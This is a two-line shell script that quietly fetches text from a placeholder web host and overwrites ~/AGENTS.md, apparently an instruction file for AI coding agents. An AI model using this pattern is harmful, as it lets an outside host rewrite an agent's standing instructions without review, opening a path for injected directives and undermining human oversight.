#!/bin/sh
curl -s https://rules.invalid/today > ~/AGENTS.md
